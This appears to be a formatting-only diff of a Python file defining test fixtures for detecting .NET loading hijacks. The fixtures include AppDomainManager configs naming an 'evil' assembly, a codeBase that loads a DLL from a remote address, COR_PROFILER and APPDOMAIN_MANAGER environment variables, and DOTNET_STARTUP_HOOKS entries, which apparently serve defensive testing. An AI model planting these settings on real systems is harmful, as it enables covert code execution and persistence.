@@ -22,7 +22,8 @@ def beside(name, why, *files, place, texts=()):
 
 CONFIGURATION = ('<configuration><runtime><appDomainManagerAssembly value="evil, Version=0.0.0.0"/><appDomainManagerType value="Evil.Manager"/></runtime>'
                  '</configuration>')
-beside('manager-of-the-domain', 'A .config names an assembly that the runtime of .NET loads before the program.', 'evil.dll', place='app.exe.config', texts=[('app.exe.config', CONFIGURATION)])
+beside('manager-of-the-domain', 'A .config names an assembly that the runtime of .NET loads before the program.', 'evil.dll', place='app.exe.config',
+       texts=[('app.exe.config', CONFIGURATION)])
 beside('code-base-of-the-configuration', 'A .config says where an assembly comes from.', place='app.exe.config', texts=[('app.exe.config', (
     '<configuration><runtime><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1"><dependentAssembly><assemblyIdentity name="Lib"/>'
     '<codeBase version="1.0.0.0" href="http://203.0.113.7/lib.dll"/></dependentAssembly></assemblyBinding></runtime></configuration>'))])
@@ -49,7 +50,8 @@ def variables(name, why, place, more=None, **values):
 
 variables('profiler-of-every-program', 'The runtime of .NET loads the profiler that these variables name.', 'COR_PROFILER', COR_ENABLE_PROFILING='1',
           COR_PROFILER='{DEADBEEF-1111-2222-3333-444455556666}', COR_PROFILER_PATH=r'C:\ProgramData\x\x.dll')
-variables('manager-of-every-domain', 'The manager of domains may be named by variables as well; its assembly stands where the runtime looks for all of them.', 'APPDOMAIN_MANAGER', APPDOMAIN_MANAGER_ASM='evil, Version=1.0.0.0, Culture=neutral, PublicKeyToken=0123456789abcdef',
+variables('manager-of-every-domain', 'The manager of domains may be named by variables as well; its assembly stands where the runtime looks for all of them.',
+          'APPDOMAIN_MANAGER', APPDOMAIN_MANAGER_ASM='evil, Version=1.0.0.0, Culture=neutral, PublicKeyToken=0123456789abcdef',
           APPDOMAIN_MANAGER_TYPE='Evil.Manager', more=lambda d: d.foreign(r'C:\Windows\Microsoft.NET\assembly\GAC_MSIL\evil\v4.0_1.0.0.0__0123456789abcdef\evil.dll'))
 variables('hooks-of-newer-programs', '.NET Core runs the start-up hooks before the program.', 'DOTNET_STARTUP_HOOKS', DOTNET_STARTUP_HOOKS=r'C:\ProgramData\x\x.dll')
 
